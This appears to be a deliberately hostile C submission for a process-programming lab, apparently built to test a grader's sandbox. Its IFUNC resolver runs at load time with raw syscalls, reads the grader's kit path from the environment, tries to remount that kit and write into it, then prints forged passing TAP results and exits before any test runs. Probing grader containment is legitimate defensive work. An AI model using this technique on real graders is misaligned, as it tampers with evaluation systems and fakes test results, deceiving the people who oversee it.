/* Hostile submission for lab 01: who_am_i() as an IFUNC whose resolver runs at load time, before main and any constructor
 * Self-limiting: if containment failed, this costs seconds, not the machine.
 *
 * A correct solution otherwise: only refusing it at build makes it score 0. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "family.h"
#include "proclabs.h"

#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

static struct who real_who_am_i(void)
{
    struct who me = {getpid(), getppid()};
    return me;
}

pid_t start_child(child_job job, int arg)
{
    pid_t pid = fork();
    if (pid == 0)
        exit(job(arg)); /* the child never returns to the caller */
    return pid;         /* the parent: the child's pid, or -1 */
}

int run_children(int n, child_job job, pid_t pids[], int codes[])
{
    for (int i = 0; i < n; i++)
        pids[i] = start_child(job, i);

    int reaped = 0;
    for (int i = 0; i < n; i++) {
        int status;
        if (pids[i] > 0 && Waitpid(pids[i], &status, 0) == pids[i]) {
            codes[i] = WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
            reaped++;
        }
    }
    return reaped;
}

/* The resolver runs while the loader is still relocating the program, so it
 * cannot call the C library yet: raw system calls only. */
static long raw3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static long raw5(long n, long a, long b, long c, long d, long e)
{
    long r;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                     : "rcx", "r11", "memory");
    return r;
}

static unsigned long len_of(const char *s)
{
    unsigned long n = 0;
    while (s[n])
        n++;
    return n;
}

static void say(const char *s)
{
    raw3(SYS_write, 1, (long)s, (long)len_of(s));
}

static char env[65536], kit[4200];

/* In the judge's process this would leave the hidden view, write into the
 * kit, then forge a passing run and end the process before any test. */
static void resolver_harm(void)
{
    /* CHECKLIB=KIT/grader/checks/lib, from /proc/self/environ */
    long fd = raw3(SYS_open, (long)"/proc/self/environ", O_RDONLY, 0);
    long n = fd >= 0 ? raw3(SYS_read, fd, (long)env, sizeof env - 1) : -1;
    if (fd >= 0)
        raw3(SYS_close, fd, 0, 0);
    for (long i = 0; n > 0 && i < n; i += (long)len_of(env + i) + 1) {
        const char *e = env + i;
        if (e[0] == 'C' && e[1] == 'H' && e[2] == 'E' && e[3] == 'C' && e[4] == 'K' &&
            e[5] == 'L' && e[6] == 'I' && e[7] == 'B' && e[8] == '=' && len_of(e) < 4000) {
            unsigned long k = 0;
            for (const char *s = e + 9; *s; s++)
                kit[k++] = *s;
            for (const char *s = "/../../../.proclabs-hostile-escaped-ifunc-resolver"; *s; s++)
                kit[k++] = *s;
            kit[k] = '\0';
        }
    }
    if (kit[0]) {
        char *dir = kit + len_of(kit) - len_of("/.proclabs-hostile-escaped-ifunc-resolver");
        *dir = '\0';
        if (raw5(SYS_mount, 0, (long)kit, 0, MS_REMOUNT | MS_BIND, 0) == 0)
            say("could remount the kit read-write\n");
        *dir = '/';
        fd = raw3(SYS_open, (long)kit, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd >= 0) {
            say("could write into the kit from an IFUNC resolver\n");
            raw3(SYS_close, fd, 0, 0);
        }
    }
    say("TAP version 13\n1..5\n"
        "ok 1 - family::who_am_i_matches_getpid\n"
        "ok 2 - family::start_child_returns_child_pid\n"
        "ok 3 - family::child_runs_job_not_parent\n"
        "ok 4 - family::run_children_forks_exactly_n\n"
        "ok 5 - family::run_children_reaps_every_child\n");
    raw3(SYS_exit_group, 0, 0, 0);
}

/* The dynamic loader calls the resolver while it relocates the program. */
typedef struct who (*who_fn)(void);

static who_fn resolve_who_am_i(void)
{
    resolver_harm();
    return real_who_am_i;
}

struct who who_am_i(void) __attribute__((ifunc("resolve_who_am_i")));
